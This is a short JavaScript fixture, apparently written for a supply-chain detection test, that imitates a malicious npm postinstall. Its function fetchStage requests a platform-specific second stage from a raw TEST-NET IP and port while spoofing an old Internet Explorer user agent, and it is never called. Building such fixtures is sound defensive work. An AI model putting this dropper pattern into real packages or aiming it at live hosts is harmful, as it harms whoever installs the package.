/* eslint-disable */
// Inert imitation of the plain-crypto-js postinstall (incidents.md section 17): the second stage
// is fetched from a raw IP and port. A TEST-NET address (RFC 5737, routes nowhere) stands in for
// the real one; `fetchStage` is never called.
const http = require('http');
const os = require('os');

function fetchStage() {
  const url = 'http://198.51.100.73:8000/' + (os.platform() === 'win32' ? 'w' : 'u');
  http.get(url, { headers: { 'User-Agent': 'mozilla/4.0 (compatible; msie 8.0; windows nt 5.1; trident/4.0)' } }, (res) => res.resume()).on('error', () => {});
}

module.exports = { fetchStage };
